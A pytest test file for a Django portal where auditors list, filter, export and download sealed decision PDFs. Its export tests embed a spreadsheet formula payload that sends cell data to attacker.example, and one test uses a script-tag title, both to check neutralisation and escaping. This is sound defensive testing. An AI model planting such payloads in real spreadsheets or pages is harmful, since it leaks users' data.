"""The auditor's portal of sealed decisions: who sees what, filters, exports, the ZIP of stored PDFs, query counts."""

import csv
import datetime as dt
import hashlib
import io
import zipfile

import openpyxl
import pgtrigger
import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from core import roles
from core.tables import neutralise_formula
from decisions.choices import DecisionMaker, DecisionStatus, SignOffKind, SignOffMethod
from decisions.models import Decision, SignOff
from decisions.models.decision import decided_fields
from records.models import DecisionSeal, DocumentVariant, SealedDocument, SealStatus
from register.search import index_decisions
from tests.factories import DecisionFactory, GrantFactory

pytestmark = pytest.mark.django_db

LIST_URL = reverse("records:sealed_list")
ZIP_URL = reverse("records:sealed_zip")
HEADERS = [
    "Reference",
    "Title",
    "Decision-maker",
    "Decision date",
    "Financial year",
    "Status",
    "Grants",
    "Seal",
    "Part 1 SHA-256",
]
INJECTED_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.fixture(autouse=True)
def _sealed_files_in_tmp(settings, tmp_path):
    settings.SEALED_ROOT = tmp_path


def pdf_bytes(decision: Decision, variant: str) -> bytes:
    return f"%PDF-1.7\n% {decision.reference} {variant}\n%%EOF\n".encode()


def sealed(
    *,
    decided_on: dt.date = dt.date(2025, 3, 20),
    maker: str = DecisionMaker.DMPC,
    status: str = DecisionStatus.APPROVED,
    grants=(),
    variants=(DocumentVariant.PART_1, DocumentVariant.COMPLETE),
    **fields,
) -> Decision:
    """A decision signed on ``decided_on``, moved to ``status`` and sealed, with a stored fake PDF per variant.

    Children are added while it is a draft: once approved, PostgreSQL refuses any change to them.
    """
    decision = DecisionFactory(decision_maker=maker, **fields)
    decision.grants.add(*grants)
    SignOff.objects.create(
        decision=decision,
        kind=SignOffKind.PCC if maker == DecisionMaker.PCC else SignOffKind.DMPC,
        printed_name="Kaya Comer-Schwartz",
        printed_role="Deputy Mayor for Policing and Crime",
        statement="I approve the recommendations above.",
        signed_on=decided_on,
        method=SignOffMethod.PAPER_RECORD,
    )
    # As approval leaves it: the decision date stored, the Part 1 words indexed.
    Decision.objects.filter(pk=decision.pk).update(status=status, **decided_fields(decided_on))
    index_decisions([decision.pk])
    DecisionSeal.objects.create(decision=decision, status=SealStatus.SEALED, attempts=1)
    for variant in variants:
        content = pdf_bytes(decision, variant)
        document = SealedDocument(
            decision=decision,
            variant=variant,
            sha256=hashlib.sha256(content).hexdigest(),
            size_bytes=len(content),
            page_count=1,
            sealed_at=timezone.make_aware(dt.datetime.combine(decided_on, dt.time(12, 0))),
            certificate_subject="CN=MOPAC test seal",
            certificate_pem="-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n",
            content_hash="a" * 64,
        )
        document.file.save(f"{decision.reference}-{variant}.pdf", ContentFile(content), save=False)
        document.save()
    decision.refresh_from_db()
    return decision


def page(client, user, url=LIST_URL, **params):
    client.force_login(user)
    return client.get(url, params)


def listed_references(response) -> set[str]:
    return {row.reference for row in response.context["rows"]}


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def zip_of(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    assert response.streaming
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


# --- The list ---------------------------------------------------------------------------------------------------------


def test_the_auditor_sees_every_sealed_decision_with_its_columns(client, role_users):
    grant = GrantFactory(funder_reference="685")
    decision = sealed(reference="PCD 1838", grants=[grant], decided_on=dt.date(2025, 3, 20))
    DecisionFactory(reference="PCD 1900", title="A draft, never sealed")
    part_1 = decision.sealed_documents.get(variant=DocumentVariant.PART_1)

    response = page(client, role_users[roles.AUDITOR])

    assert response.status_code == 200
    assert listed_references(response) == {"PCD 1838"}
    text = response.content.decode()
    for header in [*HEADERS, "Download"]:
        assert f">{header}" in text
    assert 'class="govuk-table app-table-stack"' in text
    assert f'href="{reverse("decisions:detail", args=[decision.pk])}"' in text
    assert "20/03/2025" in text and "2024/25" in text
    assert "Approved" in text and "Deputy Mayor for Policing and Crime" in text and "685" in text
    assert f'title="{part_1.sha256}"' in text
    assert f"{part_1.sha256[:12]}…" in text
    assert reverse("records:document", kwargs={"pk": decision.pk, "variant": "part_1"}) in text
    assert reverse("records:document", kwargs={"pk": decision.pk, "variant": "complete"}) in text


def test_the_rows_made_in_python_escape_what_they_show(client, role_users):
    grant = GrantFactory(funder_reference='685 <b>"x"</b>')
    sealed(reference="PCD <i>7</i>", title='<script>alert("x")</script> & O\'Brien', grants=[grant])

    text = page(client, role_users[roles.AUDITOR]).content.decode()

    assert "<script>alert" not in text and "<i>7</i>" not in text and "<b>" not in text
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; O&#x27;Brien" in text
    assert "PCD &lt;i&gt;7&lt;/i&gt;" in text and "685 &lt;b&gt;&quot;x&quot;&lt;/b&gt;" in text
    # Each cell names its column, for narrow screens.
    assert 'data-label="Title"' in text and 'data-label="Grants"' in text


def test_the_listed_date_is_the_one_stored_when_the_decision_was_signed(client, role_users):
    # Listed from the stored column (written by approval, or by the data migration from the decision-maker's live
    # sign-off: tests/test_decided_on.py), never worked out again from the sign-offs for each row.
    decision = sealed(reference="PCD 1701", decided_on=dt.date(2024, 6, 2))
    with pgtrigger.ignore("decisions.Decision:decision_frozen_after_approval"):
        Decision.objects.filter(pk=decision.pk).update(decided_on=dt.date(2024, 6, 3), financial_year="2024/25")

    rows = {row.reference: row for row in page(client, role_users[roles.AUDITOR]).context["rows"]}

    assert rows["PCD 1701"].decided_on == dt.date(2024, 6, 3)
    assert rows["PCD 1701"].financial_year == "2024/25"


def test_a_finance_officer_sees_part_1_links_only(client, role_users):
    decision = sealed(reference="LANC 2025/07", maker=DecisionMaker.PCC)

    response = page(client, role_users[roles.FINANCE_OFFICER])

    assert response.status_code == 200
    text = response.content.decode()
    assert reverse("records:document", kwargs={"pk": decision.pk, "variant": "part_1"}) in text
    assert reverse("records:document", kwargs={"pk": decision.pk, "variant": "complete"}) not in text
    assert "Complete PDF" not in text


def test_anonymous_readers_are_sent_to_sign_in(client, db):
    for url in (LIST_URL, ZIP_URL):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_users_who_may_not_read_decisions_are_refused(client, make_user):
    sealed()
    nobody = make_user("test-nobody")
    for url in (LIST_URL, ZIP_URL):
        assert page(client, nobody, url).status_code == 403


@pytest.mark.parametrize("sort", ["reference", "-reference", "decision_date", "-decision_date", "status", "-status"])
def test_every_sortable_column_sorts(client, role_users, sort):
    sealed(reference="PCD 1001", decided_on=dt.date(2025, 1, 2), status=DecisionStatus.PUBLISHED)
    sealed(reference="PCD 1002", decided_on=dt.date(2024, 5, 6))

    response = page(client, role_users[roles.AUDITOR], sort=sort)

    assert response.status_code == 200
    references = [row.reference for row in response.context["rows"]]
    expected = {
        "reference": ["PCD 1001", "PCD 1002"],
        "decision_date": ["PCD 1002", "PCD 1001"],
        "status": ["PCD 1002", "PCD 1001"],  # approved before published
    }[sort.lstrip("-")]
    assert references == (expected[::-1] if sort.startswith("-") else expected)


def test_the_number_of_queries_does_not_grow_with_the_rows(client, role_users):
    auditor = role_users[roles.AUDITOR]
    grant = GrantFactory()

    def queries_for_list(count: int) -> int:
        for _ in range(count - Decision.objects.count()):
            sealed(grants=[grant])
        client.force_login(auditor)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(LIST_URL)
        assert response.status_code == 200
        assert len(response.context["rows"]) == count
        return len(queries)

    assert queries_for_list(3) == queries_for_list(30)


# --- Filters ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def spread(db):
    """Four sealed decisions that differ in year, decision-maker, grant and state."""
    grant_685 = GrantFactory(funder_reference="685")
    grant_700 = GrantFactory(funder_reference="700")
    return {
        "PCD 1838": sealed(
            reference="PCD 1838",
            title="Digital Public Contact: additional grant",
            decided_on=dt.date(2025, 3, 20),
            grants=[grant_685],
        ),
        "PCD 1763": sealed(
            reference="PCD 1763",
            title="Digital Public Contact: grant acceptance",
            decided_on=dt.date(2024, 12, 10),
            grants=[grant_685],
            status=DecisionStatus.PUBLISHED,
        ),
        "PCD 0400": sealed(
            reference="PCD 0400",
            title="Violence Reduction Unit",
            decided_on=dt.date(2020, 2, 1),
            grants=[grant_700],
            status=DecisionStatus.PUBLISHED,
        ),
        "LANC 2025/07": sealed(
            reference="LANC 2025/07",
            title="Single Online Home on-boarding",
            decided_on=dt.date(2025, 4, 1),
            maker=DecisionMaker.PCC,
        ),
        "grants": {"685": grant_685, "700": grant_700},
    }


def test_the_financial_years_offered_are_those_of_the_sealed_decisions(client, role_users, spread):
    form = page(client, role_users[roles.AUDITOR]).context["filter"].form
    offered = [value for value, _label in form.fields["financial_year"].choices if value]
    assert offered == ["2025/26", "2024/25", "2019/20"]
    # A grant is typed (its funder's reference), not chosen from a list of every grant.
    assert form.fields["grant"].widget.input_type == "text"


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"financial_year": "2024/25"}, {"PCD 1838", "PCD 1763"}),
        ({"financial_year": "2019/20"}, {"PCD 0400"}),
        ({"financial_year": "2025/26"}, {"LANC 2025/07"}),
        ({"decision_maker": "pcc"}, {"LANC 2025/07"}),
        ({"decision_maker": "dmpc"}, {"PCD 1838", "PCD 1763", "PCD 0400"}),
        ({"status": "published"}, {"PCD 1763", "PCD 0400"}),
        ({"status": "approved"}, {"PCD 1838", "LANC 2025/07"}),
        ({"search": "digital public"}, {"PCD 1838", "PCD 1763"}),
        ({"search": "lanc"}, {"LANC 2025/07"}),
        ({"financial_year": "2024/25", "status": "published"}, {"PCD 1763"}),
        ({}, {"PCD 1838", "PCD 1763", "PCD 0400", "LANC 2025/07"}),
    ],
)
def test_each_filter_narrows_the_list(client, role_users, spread, params, expected):
    response = page(client, role_users[roles.AUDITOR], **params)
    assert response.status_code == 200
    assert listed_references(response) == expected


@pytest.mark.parametrize(("grant", "expected"), [("685", {"PCD 1838", "PCD 1763"}), ("700", {"PCD 0400"})])
def test_the_grant_filter_narrows_the_list(client, role_users, spread, grant, expected):
    response = page(client, role_users[roles.AUDITOR], grant=spread["grants"][grant].funder_reference)
    assert listed_references(response) == expected


def test_a_year_that_is_not_offered_shows_an_error_and_nothing_else(client, role_users, spread):
    response = page(client, role_users[roles.AUDITOR], financial_year="2010/11")
    assert response.status_code == 200
    assert listed_references(response) == set()
    text = response.content.decode()
    assert "govuk-error-summary" in text
    assert 'class="govuk-select govuk-select--error"' in text


# --- Exports ----------------------------------------------------------------------------------------------------------


def test_the_csv_export_has_the_filtered_rows_with_formulas_neutralised(client, role_users, spread):
    sealed(reference="PCD 1999", title=INJECTED_TITLE, decided_on=dt.date(2024, 7, 1))

    response = page(client, role_users[roles.AUDITOR], _export="csv", financial_year="2024/25", sort="reference")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="sealed-decisions.csv"' in response["Content-Disposition"]
    assert response.streaming
    rows = list(csv.reader(io.StringIO(body(response).decode())))
    assert rows[0] == HEADERS
    assert [row[0] for row in rows[1:]] == ["PCD 1763", "PCD 1838", "PCD 1999"]
    injected = rows[3]
    assert injected[1] == "'" + INJECTED_TITLE
    assert injected[3] == "2024-07-01" and injected[4] == "2024/25"
    part_1 = SealedDocument.objects.get(decision__reference="PCD 1999", variant=DocumentVariant.PART_1)
    assert injected[8] == part_1.sha256
    assert rows[1][6] == "685" and rows[1][5] == "Published"


def test_the_xlsx_export_opens_as_a_workbook_with_formulas_as_text(client, role_users, spread):
    sealed(reference="PCD 1999", title=INJECTED_TITLE, decided_on=dt.date(2024, 7, 1))

    response = page(client, role_users[roles.AUDITOR], _export="xlsx", sort="reference")

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert len(rows) == 1 + 5
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["PCD 1999"] == "'" + INJECTED_TITLE
    cell = next(row for row in workbook.active.iter_rows() if row[0].value == "PCD 1999")[1]
    assert cell.data_type == "s"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7983 4000", "'+44 20 7983 4000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("PCD 1838", "PCD 1838"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_spreadsheet_formulas_are_neutralised(value, expected):
    assert neutralise_formula(value) == expected


# --- The ZIP of sealed PDFs -------------------------------------------------------------------------------------------


def test_an_auditor_gets_both_documents_of_each_decision_as_stored(client, role_users):
    first = sealed(reference="PCD 1838")
    second = sealed(reference="PCD 1763", variants=[DocumentVariant.PART_1])

    response = page(client, role_users[roles.AUDITOR], ZIP_URL)

    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == 'attachment; filename="sealed-decisions.zip"'
    archive = zip_of(response)
    assert archive.testzip() is None
    assert sorted(archive.namelist()) == ["PCD-1763.pdf", "PCD-1838-complete-CONFIDENTIAL.pdf", "PCD-1838.pdf"]
    for document in SealedDocument.objects.filter(decision__in=[first, second]):
        with document.file.open("rb") as stored:
            assert archive.read(document.download_name) == stored.read()
    assert all(info.compress_type == zipfile.ZIP_STORED for info in archive.infolist())


def test_a_finance_officer_gets_part_1_documents_only(client, role_users):
    decision = sealed(reference="PCD 1838")

    archive = zip_of(page(client, role_users[roles.FINANCE_OFFICER], ZIP_URL))

    assert archive.namelist() == ["PCD-1838.pdf"]
    assert archive.read("PCD-1838.pdf") == pdf_bytes(decision, DocumentVariant.PART_1)


def test_the_zip_holds_only_the_filtered_decisions(client, role_users, spread):
    archive = zip_of(page(client, role_users[roles.AUDITOR], ZIP_URL, financial_year="2019/20"))
    assert sorted(archive.namelist()) == ["PCD-0400-complete-CONFIDENTIAL.pdf", "PCD-0400.pdf"]


def test_references_with_slashes_stay_single_file_names_in_the_zip(client, role_users, spread):
    archive = zip_of(page(client, role_users[roles.AUDITOR], ZIP_URL, decision_maker="pcc"))
    assert sorted(archive.namelist()) == ["LANC-2025-07-complete-CONFIDENTIAL.pdf", "LANC-2025-07.pdf"]


def test_the_zip_is_streamed_in_pieces_as_files_are_added(client, role_users):
    for _ in range(3):
        sealed()
    client.force_login(role_users[roles.AUDITOR])
    response = client.get(ZIP_URL)
    chunks = list(response.streaming_content)
    assert len(chunks) > 3
    assert zipfile.ZipFile(io.BytesIO(b"".join(chunks))).testzip() is None


def test_the_zip_link_carries_the_filters_and_bad_filters_go_back_to_the_list(client, role_users, spread):
    response = page(client, role_users[roles.AUDITOR], financial_year="2024/25", sort="status")
    assert response.context["zip_url"] == f"{ZIP_URL}?financial_year=2024%2F25"

    response = page(client, role_users[roles.AUDITOR], ZIP_URL, financial_year="1999/00")
    assert response.status_code == 302
    assert response["Location"] == f"{LIST_URL}?financial_year=1999%2F00"
